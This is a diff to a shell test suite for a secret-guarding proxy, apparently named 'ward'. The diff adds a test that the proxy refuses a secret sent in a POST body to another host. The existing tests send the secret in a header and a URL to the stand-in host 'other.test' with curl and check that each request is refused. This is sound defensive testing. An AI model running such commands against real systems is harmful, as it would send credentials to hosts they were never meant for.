@@ -105,14 +105,16 @@ is "$R" "placeholder no-value" "a box process's memory holds the placeholder and
 R=$(X "PLANT=1 VALUE_A='${WARD_TEST_KEY:0:10}' VALUE_B='${WARD_TEST_KEY:10}' python3 /tmp/memscan.py")
 is "$R" "placeholder value" "(twin: the same scan finds a value planted in that memory)"
 
-# Refusals: the placeholder to another host (header, URL, body not: see
-# SECURITY.md); another credential to the secret's host.
+# Refusals: the placeholder to another host (header, URL, body); another
+# credential to the secret's host.
 N2=$(wc -l <"$D/other.log" 2>/dev/null || echo 0)
 R=$(X 'curl -sS -v -H "X-Leak: $WARD_TEST_KEY" http://other.test:'"$OTHER"'/h 2>&1')
 like "$R" "403 Forbidden by ward: the request carries secret WARD_TEST_KEY, which goes only to api.test" \
 	"the placeholder in a header to another host: refused"
 R=$(X 'curl -sS -v "http://other.test:'"$OTHER"'/q?k=$WARD_TEST_KEY" 2>&1')
 like "$R" "403 Forbidden by ward: the request carries secret WARD_TEST_KEY" "in another host's URL: refused"
+R=$(X 'curl -sS -v --data-binary "token=$WARD_TEST_KEY" http://other.test:'"$OTHER"'/b 2>&1')
+like "$R" "403 Forbidden by ward: the request body carries secret WARD_TEST_KEY" "in a POST body to another host: refused"
 is "$(wc -l <"$D/other.log" 2>/dev/null || echo 0)" "$N2" "nothing reached the other host"
 is "$(X 'curl -sS http://other.test:'"$OTHER"'/plain')" "ok" "twin: the other host without the secret is reached"
 N1=$(wc -l <"$D/api.log")
